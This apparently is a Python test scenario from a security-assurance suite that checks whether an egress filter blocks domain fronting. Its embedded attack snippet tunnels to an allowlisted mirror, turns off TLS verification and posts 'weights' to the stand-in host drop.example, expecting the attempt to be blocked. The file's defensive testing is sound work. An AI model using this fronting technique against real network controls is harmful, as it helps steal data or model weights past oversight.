"""Theft: ask for a listed host, and name another one in the greeting inside the tunnel."""

from __future__ import annotations

from weighthouse.assurance.model import Expected, Observed, Trace
from weighthouse.assurance.ports import Ground, Scenario
from weighthouse.assurance.scenarios import honest
from weighthouse.assurance.scenarios.thief import TUNNEL, refused_by_egress

CODE = "egress.name_differs"
SOURCE = (
    TUNNEL
    + """
way, met = tunnel("mirror.lab.internal:8443")
out = False
try:
    context = ssl.create_default_context(); context.check_hostname = False; context.verify_mode = ssl.CERT_NONE
    inside = context.wrap_socket(way, server_hostname="drop.example")
    inside.sendall(b"POST / HTTP/1.1\\r\\nHost: drop.example\\r\\nContent-Length: 7\\r\\n\\r\\nweights")
    out, met = bool(inside.recv(16)), "an answer"
except OSError as error:
    met = type(error).__name__
report(met=met, got_out=out)
"""
)


def attack(ground: Ground, _grant: str) -> Observed:
    return refused_by_egress(ground, ground.submit_attack_run(SOURCE), "a way behind a listed name")


SCENARIO = Scenario(
    id="domain-fronting",
    title="Hide another destination behind a listed name",
    techniques=("T1090.004", "catalogue 35"),
    people=("eve",),
    steps=("A run asks for a tunnel to the listed mirror.", "Inside it greets drop.example."),
    expected=Expected(status="BLOCKED", room="egress", code=CODE, traces=(Trace("egress.Refused", {"code": CODE}),)),
    prepare=honest.trainer,
    attack=attack,
    cleanup=honest.give_back,
    demo=True,
)
